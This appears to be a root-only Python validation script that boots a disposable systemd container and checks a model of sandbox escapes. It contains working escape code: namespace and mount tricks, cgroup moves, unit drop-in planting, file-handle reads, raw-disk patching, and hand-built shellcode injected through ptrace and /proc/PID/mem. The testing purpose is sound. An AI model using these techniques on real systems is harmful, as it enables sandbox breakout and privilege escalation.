#!/usr/bin/env python3
"""Holds the model of ways out of a sandbox (rules/contradictions/escape-*.toml) against a running systemd.

    sudo tests/live/escapes.py --root DIR [--only ID]... [--json FILE] [-v]

Not part of the test suite: it needs root, systemd-nspawn, util-linux, e2fsprogs and iproute2, Python 3.11+ and DIR, a
Debian root with systemd, D-Bus and Python:

    debootstrap --variant=minbase --include=systemd,systemd-sysv,dbus,dbus-daemon,python3,util-linux,mount trixie DIR

DIR is copied to a disk image which boots in a container and is thrown away. For each way out a service plays the one that
was taken over: its unit is an example of the rule, its program (this file again) takes the steps of the way, and what it
reached is checked from outside. The unit is run

- as the rule's marked examples are: the sandbox must be undone,
- as the first marked example, once with each line of `closes`: it must hold,
- as the rule's silent examples are: it must hold,
- with every protection of `undoes` that leaves the way open: all of them must be undone ("all its protections").

Examples, `undoes` and `closes` are read from the rules, so that model and proof cannot drift apart. The exit status is 1 if
a single result differs from the model. Where there are several calls for a step, each is tried, so that a line which stops
only one of them is found out. Lines that this systemd does not know are left out.

The processes that are taken over have all capabilities. Those of root with no more than the service has can be taken over even
without CAP_SYS_PTRACE, as long as the kernel has no Yama.

The container has the capabilities that systemd-nspawn gives by default and no filter of system calls. Not shown here:
escape-module and escape-raw-io, whose effect is on the kernel of the machine. Of escape-kernel-helper it is shown that
`core_pattern` can be written (what stands there is written again, for it is the machine's); that the kernel runs what it
says is the kernel's documented behaviour.
"""
import argparse, ctypes, json, mmap, os, re, shutil, signal, socket, struct, subprocess, sys, tempfile, time, tomllib
from pathlib import Path

import container
from container import Booted, cgroup_parent, libc, must, remove_groups

RULES = Path(__file__).resolve().parent.parent.parent / "rules" / "contradictions"
INSIDE = "/usr/lib/escapes.py"
ME = f"/usr/bin/python3 {INSIDE}"
PROOF = "/run/escape-proof"
OUTPUT = "/run/escape-output"
PORT = 4711

# What a protection hides or makes read-only: a file whose text is a secret, or one that must not change.
READ = {
    "ProtectHome": "/home/secret",
    "InaccessiblePaths": "/srv/inaccessible/secret",
    "TemporaryFileSystem": "/srv/covered/secret",
    "PrivateTmp": "/var/tmp/secret",
}
WRITE = {"ProtectSystem": "/etc/untouched", "ReadOnlyPaths": "/srv/readonly/untouched"}
# How each protection is turned on where a unit shall have all of them.
STRONG = {
    "ProtectSystem": "strict", "ProtectHome": "yes", "ReadOnlyPaths": "/srv/readonly", "InaccessiblePaths": "/srv/inaccessible",
    "TemporaryFileSystem": "/srv/covered", "PrivateNetwork": "yes", "PrivateDevices": "yes", "PrivateTmp": "yes",
    "ProtectKernelTunables": "yes", "ProtectKernelModules": "yes", "ProtectControlGroups": "yes",
    "RestrictAddressFamilies": "AF_UNIX", "SystemCallFilter": "@system-service", "CapabilityBoundingSet": "", "IPAddressDeny": "any",
}

CLONE_NEWNS, CLONE_NEWCGROUP, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x2000000, 0x10000000, 0x40000000
X86 = os.uname().machine == "x86_64"


# ---------------------------------------------------------------- inside: the service that was taken over

def syscall(number, *args):
    got = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if got < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return got


def say(*words):
    os.write(1, (" ".join(map(str, words)) + "\n").encode())


def attempt(step, *args):
    """A step in a process of its own: a filter may kill it, and what it changes of itself shall not disturb the next."""
    child = os.fork()
    if child == 0:
        try:
            signal.alarm(60)
            step(*args)
        except BaseException as e:
            say(f"- {step.__name__}{args}: {type(e).__name__} {e}")
        os._exit(0)
    _, status = os.waitpid(child, 0)
    if os.WIFSIGNALED(status):
        say(f"- {step.__name__}{args}: killed by signal {os.WTERMSIG(status)}")


def look(prefix=""):
    """Reads what is secret and changes what must not change, below a prefix."""
    for key, path in READ.items():
        try:
            say("read", key, Path(prefix + path).read_text())
        except OSError as e:
            say(f"- read {prefix}{path}: {e}")
    for key, path in WRITE.items():
        try:
            with open(prefix + path, "r+") as f:
                text = f.read()
                f.seek(0)
                f.write(text.replace("whole", "taken"))
        except OSError as e:
            say(f"- write {prefix}{path}: {e}")


def fetch():
    """What is told on the loopback of the system, and only there."""
    with socket.create_connection(("127.0.0.1", PORT), 3) as s:
        say("fetched", s.recv(100).decode())


def unshare_user(flags=0):
    """All capabilities, but only over what belongs to the new user namespace."""
    uid, gid = os.geteuid(), os.getegid()
    if libc.unshare(CLONE_NEWUSER | flags):
        raise OSError(ctypes.get_errno(), "unshare")
    Path("/proc/self/setgroups").write_text("deny")
    Path("/proc/self/uid_map").write_text(f"0 {uid} 1")
    Path("/proc/self/gid_map").write_text(f"0 {gid} 1")


def umount_covers():
    for path in ["/home", "/root", "/srv/inaccessible", "/srv/covered", "/tmp", "/var/tmp"]:
        while libc.umount2(path.encode(), 2) == 0:  # MNT_DETACH
            pass


def remount_old():
    umount_covers()
    for path in ["/", "/srv/readonly"]:
        libc.mount(b"none", path.encode(), None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND
    look()


def remount_new():
    """mount_setattr() and open_tree() with move_mount() instead."""
    umount_covers()
    attributes = struct.pack("QQQQ", 0, 1, 0, 0)  # clear MOUNT_ATTR_RDONLY
    syscall(442, -100, b"/", 0x8000, attributes, 32)
    look()


def remount_user():
    unshare_user(CLONE_NEWNS)
    remount_old()


def escape_remount():
    for step in (remount_old, remount_new, remount_user):
        attempt(step)


def setns_by(how):
    if how == "pidfd":
        fd, kind = syscall(434, 1, 0), CLONE_NEWNET
    else:
        fd, kind = os.open("/proc/1/ns/net", os.O_RDONLY), CLONE_NEWNET if how == "kind" else 0
    syscall(308 if X86 else 268, fd, kind)
    fetch()


def setns_all():
    fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
    syscall(308 if X86 else 268, fd, CLONE_NEWNS)
    look()


def escape_setns():
    for how in ("any", "kind", "pidfd"):
        attempt(setns_by, how)
    attempt(setns_all)


def proc_root(pid):
    look(f"/proc/{pid}/root")


def proc_below():
    """The /proc that was there before another one was mounted over it."""
    while libc.umount2(b"/proc", 2) == 0:
        if os.path.exists("/proc/1/root/etc"):
            look("/proc/1/root")


def escape_proc_root():
    attempt(proc_root, 1)
    attempt(proc_below)


def escape_manager():
    attempt(run, "systemd-run", "--quiet", "--collect", "--wait", *ME.split(), "outside")
    attempt(run, "busctl", "call", "org.freedesktop.systemd1", "/org/freedesktop/systemd1", "org.freedesktop.systemd1.Manager",
            "StartTransientUnit", "ssa(sv)a(sa(sv))", f"by-bus-{time.time_ns()}.service", "replace", "1", "ExecStart", "a(sasb)", "1",
            "/usr/bin/python3", "3", "/usr/bin/python3", INSIDE, "outside", "false", "0")
    time.sleep(1)


def run(*command):
    done = subprocess.run(command, capture_output=True, text=True, timeout=8)
    say("-", command[0], done.returncode, done.stderr.strip()[:200])


def unit_file(folder):
    drop_in = Path(folder) / "escape-other.service.d"
    drop_in.mkdir(parents=True, exist_ok=True)
    (drop_in / "x.conf").write_text(f"[Service]\nExecStart=\nExecStart={ME} outside\n")
    os.kill(1, signal.SIGHUP)


def escape_unit_files():
    for folder in ("/etc/systemd/system", "/run/systemd/system", "/usr/local/lib/systemd/system"):
        attempt(unit_file, folder)
    time.sleep(1)


def write_again(path):
    text = Path(path).read_text()
    Path(path).write_text(text)
    say("fetched core_pattern")


def escape_kernel_helper():
    attempt(write_again, "/proc/sys/kernel/core_pattern")


def group_of(process="self"):
    return Path(f"/proc/{process}/cgroup").read_text().split("::")[-1].strip()


def moved(before):
    """Seen from one control group namespace: there the group of the service itself may be called / already."""
    if group_of() != before:
        say("moved", before, group_of())
    fetch()


def cgroup_write(group):
    before = group_of()
    (Path(group) / "cgroup.procs").write_text(str(os.getpid()))
    moved(before)


def cgroup_clone(group):
    """clone3() with CLONE_INTO_CGROUP takes a directory: nothing is opened for writing."""
    before = group_of()
    fd = os.open(group, os.O_PATH | os.O_DIRECTORY)
    clone_args = struct.pack("11Q", 0x200000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, fd)
    child = syscall(435, clone_args, 88)
    if child == 0:
        try:
            moved(before)
        finally:
            os._exit(0)
    os.waitpid(child, 0)


GROUPS = ("/sys/fs/cgroup", "/sys/fs/cgroup/init.scope", "/sys/fs/cgroup/system.slice/dbus.service")


def escape_cgroup():
    for group in GROUPS:
        attempt(cgroup_write, group)


def escape_cgroup_clone():
    for group in GROUPS:
        attempt(cgroup_clone, group)


def by_handle(mount, name):
    """The directory that lies below a cover, by its number: reading / tells it, and the generation may be left out on ext4."""
    number = next(e.inode() for e in os.scandir(mount) if e.name == name)
    handle = struct.pack("IiII", 8, 1, number, 0)
    fd = os.open(mount, os.O_RDONLY | os.O_DIRECTORY)
    got = syscall(304 if X86 else 265, fd, handle, os.O_RDONLY | os.O_DIRECTORY)
    here = os.path.join(mount, name)
    for key, path in READ.items():
        if path.startswith(here + "/"):
            inner = os.open(path[len(here) + 1:], os.O_RDONLY, dir_fd=got)
            say("read", key, os.read(inner, 200).decode())


def by_handle_user(mount, name):
    unshare_user(CLONE_NEWNS)
    by_handle(mount, name)


def escape_handle():
    for step in (by_handle, by_handle_user):
        for mount, name in (("/", "home"), ("/srv", "inaccessible"), ("/srv", "covered"), ("/var", "tmp")):
            attempt(step, mount, name)


def victim(name):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")[:2] == [b"/usr/bin/sleep", name]:
                return int(pid)
        except OSError:
            pass
    raise OSError("no process to take over")


def code():
    """execve("/bin/sh", ["/bin/sh", "-c", COMMAND]), for x86-64, wherever it lies."""
    words = [b"/bin/sh\0", b"-c\0", f"exec {ME} outside\0".encode()]
    head = bytes.fromhex("90909090" "e800000000" "5b")  # nop...; call next; next: pop rbx
    base = 9  # rbx is the address of `pop rbx`

    def body(offsets):
        out = b""
        for n, at in enumerate(offsets):  # lea rdi|rcx|rdx, [rbx+at]
            out += [b"\x48\x8d\xbb", b"\x48\x8d\x8b", b"\x48\x8d\x93"][n] + struct.pack("<i", at)
        out += b"\x48\x81\xec\x00\x10\x00\x00"  # sub rsp, 4096
        out += b"\x6a\x00\x52\x51\x57"          # push 0, rdx, rcx, rdi
        out += b"\x48\x89\xe6\x31\xd2"          # mov rsi, rsp; xor edx, edx
        return out + b"\xb8\x3b\x00\x00\x00\x0f\x05"  # mov eax, 59; syscall

    start = len(head) + len(body([0, 0, 0])) - base
    offsets, at = [], start
    for word in words:
        offsets.append(at)
        at += len(word)
    return head + body(offsets) + b"".join(words)


def at_rest(pid):
    """Where its code goes on: the `syscall` instruction is run again after a stop."""
    return int(Path(f"/proc/{pid}/syscall").read_text().split()[-1], 16) - 2


def wake(pid):
    os.kill(pid, signal.SIGSTOP)
    time.sleep(0.1)
    os.kill(pid, signal.SIGCONT)


def take_by_ptrace():
    pid, text = victim(b"98765"), code()
    PTRACE_POKETEXT, PTRACE_ATTACH, PTRACE_DETACH = 4, 16, 17
    at = at_rest(pid)
    libc.ptrace.argtypes = [ctypes.c_long] * 4
    if libc.ptrace(PTRACE_ATTACH, pid, 0, 0):
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(pid, 0x40000000)
    text += b"\0" * (-len(text) % 8)
    for i in range(0, len(text), 8):
        libc.ptrace(PTRACE_POKETEXT, pid, at + i, int.from_bytes(text[i:i + 8], "little", signed=True))
    libc.ptrace(PTRACE_DETACH, pid, 0, 0)
    wake(pid)


def take_by_file():
    """/proc/PID/mem instead of a system call of its own: an ordinary open() and write()."""
    pid = victim(b"98766")
    at = at_rest(pid)
    fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    os.pwrite(fd, code(), at)
    wake(pid)


def escape_ptrace():
    attempt(take_by_ptrace)
    time.sleep(0.5)


def escape_proc_mem():
    attempt(take_by_file)
    time.sleep(0.5)


CODE = {"x86_64": "b82a000000c3", "aarch64": "40058052c0035fd6"}  # return 42


def execute(fd):
    """Maps a file as code and runs it."""
    libc.mmap.restype, libc.mmap.argtypes = ctypes.c_void_p, [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
    at = libc.mmap(None, 4096, 1 | 4, 2, fd, 0)  # PROT_READ | PROT_EXEC, MAP_PRIVATE
    if at in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "mmap")
    if ctypes.CFUNCTYPE(ctypes.c_int)(at)() == 42:
        say("executed")


def anonymous():
    """What the protection refuses: this must not work."""
    libc.mmap.restype, libc.mmap.argtypes = ctypes.c_void_p, [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
    if libc.mmap(None, 4096, 7, 0x22, -1, 0) not in (None, ctypes.c_void_p(-1).value):
        say("unprotected")


def execute_memfd():
    fd = os.memfd_create("x")
    os.write(fd, bytes.fromhex(CODE[os.uname().machine]))
    execute(fd)


def escape_write_execute():
    attempt(anonymous)
    attempt(execute_memfd)


def raw_disk(device):
    """Finds the secrets among the blocks, and changes what must not change; past the cache, which may be old."""
    fd = os.open(device, os.O_RDWR | os.O_DIRECT)
    size, step, at = os.lseek(fd, 0, 2), 1 << 22, 0
    buffer = mmap.mmap(-1, step)
    while at < size:
        got = os.preadv(fd, [buffer], at)
        for found in re.finditer(rb"(secret|whole) (\w+) [0-9]+", buffer[:got]):
            if found[1] == b"secret":
                say("read", found[2].decode(), found[0].decode())
            else:
                buffer[found.start():found.start() + 5] = b"taken"
                block = found.start() // 4096 * 4096
                with memoryview(buffer) as view, view[block:block + 4096] as part:
                    os.pwritev(fd, [part], at + block)
        at += step


def raw_disk_own(major, minor):
    """With a node of its own."""
    node = f"/dev/shm/disk{os.getpid()}"
    os.mknod(node, 0o60600, os.makedev(major, minor))
    raw_disk(node)


def escape_raw_disk():
    number = os.stat("/").st_dev
    attempt(raw_disk, "/dev/the-disk")
    attempt(raw_disk_own, os.major(number), os.minor(number))


def escape_setuid():
    attempt(shown, "/usr/local/bin/setuid-cat", READ["ProtectHome"])


def shown(*command):
    done = subprocess.run(command, capture_output=True, text=True, timeout=8)
    say("read ProtectHome" if done.returncode == 0 else "-", done.stdout.strip(), done.stderr.strip())


def escape_packet():
    attempt(send_frame, 0x0800, 9)


def send_frame(protocol, port):
    said = Path("/srv/told").read_bytes()
    udp = struct.pack("!HHHH", 9, port, 8 + len(said), 0) + said
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, bytes([10, 77, 0, 1]), bytes([10, 77, 0, 2]))
    total = sum(struct.unpack("!10H", head))
    total = (total & 0xffff) + (total >> 16)
    head = head[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xffff) + head[12:]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    s.bind(("out0", protocol))
    s.send(bytes.fromhex("020000770002" "020000770001") + struct.pack("!H", protocol) + head + udp)


def where():
    """Where a process is: its namespaces and what binds it."""
    status = dict(l.split(":\t", 1) for l in Path("/proc/self/status").read_text().splitlines() if ":\t" in l)
    return {**{n: os.readlink(f"/proc/self/ns/{n}") for n in ("mnt", "net", "ipc", "pid")},
            **{k: status[k] for k in ("Uid", "CapBnd", "CapEff", "Seccomp_filters", "NoNewPrivs")},
            "cgroup": Path("/proc/self/cgroup").read_text().split("::")[-1].strip()}


def inside(what):
    if what == "outside":  # what is run where the sandbox does not reach
        Path(PROOF + ".new").write_text(json.dumps(where()))
        os.rename(PROOF + ".new", PROOF)
        look()
    else:
        globals()[what.replace("-", "_")]()


# ---------------------------------------------------------------- outside: the container and the judge

class Container(Booted):
    """A disk image that runs systemd, and is gone with this process: all mounts are in a mount namespace of our own."""

    def __init__(self, root):
        super().__init__(Path(tempfile.mkdtemp(prefix="escapes-", dir="/var/tmp")))
        self.children, self.cgroup = [], None
        self.image, self.told = self.work / "disk", self.work / "told"
        self.told.write_text("")
        self.root.mkdir()
        used = int(must("du", "-sm", "--one-file-system", root).split()[0])
        must("truncate", "-s", f"{used + used // 4 + 200}M", self.image)
        must("mkfs.ext4", "-q", "-F", "-d", root, self.image)
        must("mount", "-o", "loop", self.image, self.root)
        try:
            self.prepare()
            self.boot()
        except BaseException:
            self.close()
            raise

    def prepare(self):
        r = self.root
        for source, to in ((__file__, INSIDE), (container.__file__, Path(INSIDE).with_name("container.py"))):
            (r / str(to)[1:]).write_bytes(Path(source).read_bytes())
        self.mask("tmp.mount", "proc-sys-fs-binfmt_misc.automount")
        for file, line in (("passwd", "foo:x:4242:4242::/nonexistent:/usr/sbin/nologin"), ("group", "foo:x:4242:")):
            with open(r / "etc" / file, "a") as f:
                f.write(line + "\n")
        for folder in ("inaccessible", "covered", "readonly"):
            (r / "srv" / folder).mkdir(parents=True, exist_ok=True)
        shutil.copyfile(r / "usr/bin/cat", r / "usr/local/bin/setuid-cat")
        os.chmod(r / "usr/local/bin/setuid-cat", 0o4755)
        (r / "etc/systemd/system/escape-other.service").write_text("[Service]\nType=oneshot\nExecStart=/usr/bin/true\n")

    def boot(self):
        parent = cgroup_parent()
        if parent:
            self.cgroup = parent / self.work.name
            self.cgroup.mkdir()
        self.start("escapes", [self.cgroup] if self.cgroup else [], "--system-call-filter=@known")
        # Only this file of /proc/sys is given back: the machine's other settings stay out of reach.
        pattern = "/proc/sys/kernel/core_pattern"
        self.must(f"mount --bind {pattern} {pattern} && mount -o remount,bind,rw {pattern}")
        disk = os.stat(self.root).st_dev
        self.must(f"mknod -m 600 /dev/the-disk b {os.major(disk)} {os.minor(disk)}")
        # Somebody who tells the secret on the loopback of the container, and somebody at the other end of a cable.
        net = ["nsenter", "-t", str(self.leader), "-n", "--"]
        self.children.append(far := subprocess.Popen(
            ["unshare", "--net", "--", sys.executable, __file__, "listen-far", str(self.work / "heard")], preexec_fn=lambda: libc.prctl(1, signal.SIGKILL)))
        time.sleep(0.3)
        must(*net, "ip", "link", "add", "out0", "address", "02:00:00:77:00:01", "type", "veth", "peer", "name", "far0", "netns", far.pid)
        must(*net, "ip", "addr", "add", "10.77.0.1/24", "dev", "out0")
        must(*net, "ip", "link", "set", "out0", "up")
        there = ["nsenter", "-t", str(far.pid), "-n", "--", "ip"]
        must(*there, "link", "set", "far0", "address", "02:00:00:77:00:02")
        must(*there, "addr", "add", "10.77.0.2/24", "dev", "far0")
        must(*there, "link", "set", "far0", "up")
        self.children.append(subprocess.Popen([*net, sys.executable, __file__, "tell", str(self.told)],
                                              preexec_fn=lambda: libc.prctl(1, signal.SIGKILL)))

    def inner(self, path):
        """A file as the container sees it, /run and /tmp included."""
        return Path(f"/proc/{self.leader}/root{path}")

    def close(self):
        self.stop()
        for child in self.children:
            child.kill()
            child.wait()
        if self.cgroup:
            remove_groups(self.cgroup)
        shutil.rmtree(self.work, ignore_errors=True)


def listen_far(path):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", 9))
    while True:
        Path(path).write_bytes(s.recv(200))


def tell(path):
    s = socket.create_server(("127.0.0.1", PORT))
    while True:
        c, _ = s.accept()
        c.sendall(Path(path).read_bytes())
        c.close()


def uncached(path):
    """The text of a file as it is on the disk."""
    with open(path, "rb") as f:
        os.fsync(f.fileno())
        os.posix_fadvise(f.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)
        return f.read().decode(errors="replace")


class Judge:
    def __init__(self, container, verbose):
        self.c, self.verbose, self.number = container, verbose, 0
        self.first = json.loads(self.c.must(f"cd / && exec {ME} where"))
        status = Path(f"/proc/{self.c.leader}/status").read_text()
        for key in ("CapBnd", "Seccomp_filters"):  # the container has a filter of its own
            self.first[key] = re.search(rf"^{key}:\t(\w+)", status, re.M)[1]

    def run(self, rule, text):
        """Runs a unit; which of its protections were undone, and what the service said."""
        self.number += 1
        token = str(time.time_ns())
        unit = f"escape{self.number}.service"
        for key, path in READ.items():
            self.c.inner(path).write_text(f"secret {key} {token}")
        self.c.inner(READ["ProtectHome"]).chmod(0o600)
        for key, path in WRITE.items():
            self.c.inner(path).write_text(f"whole {key} {token}")
        self.c.told.write_text(token)
        self.c.inner("/srv/told").write_text(token)
        (self.c.work / "heard").write_text("")
        self.c.inner(PROOF).unlink(missing_ok=True)
        text = text.replace("ExecStart=/usr/bin/foo", f"Type=oneshot\nTimeoutStartSec=150\nStandardOutput=file:{OUTPUT}\n"
                            f"StandardError=journal\nExecStart={ME} {rule}")
        self.c.inner(f"/run/systemd/system/{unit}").write_text(text)
        self.c.inner(OUTPUT).unlink(missing_ok=True)
        self.c.must("rm -rf /etc/systemd/system/escape-other.service.d /run/systemd/system/escape-other.service.d "
                    "/usr/local/lib/systemd/system/escape-other.service.d; systemctl daemon-reload; sync")
        if rule in ("escape-ptrace", "escape-proc-mem"):
            for n in (98765, 98766):
                self.c.must(f"systemctl stop sleeper{n} 2>/dev/null; systemd-run -q --collect --unit=sleeper{n} /usr/bin/sleep {n}")
            time.sleep(0.3)
        started = self.c.sh(f"systemctl start {unit}", 200)
        if rule == "escape-unit-files":  # as a timer, an administrator or the next boot would
            self.c.must("systemctl start escape-other.service; systemctl stop escape-other.service")
        out = self.c.inner(OUTPUT).read_text() if self.c.inner(OUTPUT).exists() else ""
        state = self.c.must(f"systemctl show -p Result -p ExecMainStatus --value {unit}").split()
        if not out and rule != "escape-setuid":
            out = f"- the service said nothing: {state} {started.stderr}"
        self.c.must(f"systemctl reset-failed {unit} 2>/dev/null; rm -f /run/systemd/system/{unit}; true")
        done = self.undone(rule, unit, text, out, token)
        if self.verbose:
            print(f"--- {rule} {state}\n{text}\n{out}{done}", file=sys.stderr)
        return done, out

    def knows(self, text):
        """Whether this systemd knows every setting of a unit."""
        self.c.inner("/run/escape-known.service").write_text(text.replace("/usr/bin/foo", "/usr/bin/true"))
        said = self.c.sh("systemd-analyze verify --man=no /run/escape-known.service 2>&1").stdout
        return not re.search(r"escape-known.service:\d+: .*(Unknown|Failed to parse|ignoring)", said)

    def undone(self, rule, unit, text, out, token):
        keys = [l.split("=")[0] for l in text.splitlines() if re.match(r"\w+=", l)]
        try:
            proof = json.loads(self.c.inner(PROOF).read_text())
        except OSError:
            proof = {}
        free = bool(proof) and all(proof[k] == self.first[k] for k in ("mnt", "net", "ipc", "CapBnd", "Seccomp_filters")) \
            and proof["Uid"].split()[0] == "0" and unit not in proof["cgroup"]
        moved = any(l.startswith("moved ") for l in out.splitlines())
        got = {}
        for key in keys:
            if rule in ("escape-manager", "escape-unit-files", "escape-ptrace", "escape-proc-mem"):
                got[key] = free
            elif rule == "escape-kernel-helper":
                got[key] = "fetched core_pattern" in out
            elif rule in ("escape-cgroup", "escape-cgroup-clone"):
                got[key] = moved and (key != "IPAddressDeny" or f"fetched {token}" in out)
            elif rule == "escape-packet":
                got[key] = (self.c.work / "heard").read_text() == token
            elif rule == "escape-setuid":
                got[key] = f"secret ProtectHome {token}" in out
            elif rule == "escape-write-execute":
                got[key] = "executed" in out and "unprotected" not in out
            elif key == "PrivateNetwork":
                got[key] = f"fetched {token}" in out
            elif key in READ:
                got[key] = f"read {key} secret {key} {token}" in out
            elif key in WRITE:
                text = uncached(self.c.inner(WRITE[key]))
                got[key] = text.startswith(f"taken {key}")
        return got


def expected_keys(model, text):
    return [l.split("=")[0] for l in text.splitlines() if l.split("=")[0] in model["undoes"]]


def all_protections(model):
    """A unit with every protection that the way takes back and that is no condition of the way itself."""
    closing = {c.split("=")[0] for c in model["closes"]} | {c.lstrip("!@").split("=")[0] for c in model["by"]}
    lines = [f"{k}={STRONG[k]}" for k in model["undoes"] if k in STRONG and k not in closing]
    return "[Service]\nExecStart=/usr/bin/foo\n" + "\n".join(lines) + "\n"


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--root", required=True, type=Path)
    p.add_argument("--only", action="append", default=[])
    p.add_argument("--json", type=Path)
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args()
    if os.geteuid():
        sys.exit("this needs root")
    if os.environ.get("ESCAPES_NS") != "1":
        os.execvpe("unshare", ["unshare", "--mount", "--propagation", "private", "--", sys.executable, __file__, *sys.argv[1:]],
                   {**os.environ, "ESCAPES_NS": "1"})
    container = Container(args.root.resolve())
    differ, rows = 0, []
    try:
        judge = Judge(container, args.verbose)
        print(f"kernel {os.uname().release}, {container.must('systemctl --version').splitlines()[0]}, {os.uname().machine}\n")
        for path in sorted(RULES.glob("escape-*.toml")):
            rule = path.stem
            if args.only and rule not in args.only:
                continue
            model = tomllib.loads(path.read_text())
            check = model["check"]
            if rule.replace("-", "_") not in globals():
                print(f"{rule:22} not shown in a container")
                continue
            marked = [e["text"] for e in model["example"] if f"#~ {rule}" in e["text"]]
            silent = [e["text"] for e in model["example"] if f"#~ {rule}" not in e["text"]]
            tries = [("undone", f"example {n + 1}", t) for n, t in enumerate(marked)]
            everything = all_protections(check)
            if len(everything.splitlines()) > 3:
                tries.append(("undone", "all its protections", everything))
            tries += [("holds", line, marked[0].rstrip("\n") + f"\n{line}\n") for line in check["closes"]]
            tries += [("holds", "silent: " + " ".join(l for l in t.splitlines()[2:]), t) for t in silent]
            for want, name, text in tries:
                text = "".join(l + "\n" for l in text.splitlines() if not l.startswith("#~"))
                if not judge.knows(text):
                    print(f"{rule:22} {name[:76]:76} not known to this systemd")
                    continue
                done, out = judge.run(rule, text)
                keys = [k for k in expected_keys(check, text) if k in done]
                taken = [k for k in keys if done[k]]
                kept = [k for k in keys if not done[k]]
                result = "undone" if keys and not kept else "holds" if not taken else "partly"
                ok = result == want
                differ += not ok
                rows.append({"rule": rule, "unit": name, "wanted": want, "found": result, "undone": taken, "held": kept, "said": out})
                print(f"{rule:22} {name[:76]:76} {result:7} {'' if ok else 'DIFFERS: the model says ' + want}"
                      + (f" (held: {' '.join(kept)})" if result == "partly" else ""), flush=True)
    finally:
        container.close()
    if args.json:
        args.json.write_text(json.dumps(rows, indent=1))
    print(f"\n{len(rows)} runs, {differ} differ from the model")
    sys.exit(1 if differ else 0)


if __name__ == "__main__":
    if sys.argv[1:2] == ["listen-far"]:
        listen_far(sys.argv[2])
    elif sys.argv[1:2] == ["tell"]:
        tell(sys.argv[2])
    elif sys.argv[1:2] == ["where"]:
        print(json.dumps(where()))
    elif os.path.abspath(__file__) == INSIDE:
        inside(sys.argv[1])
    else:
        main()
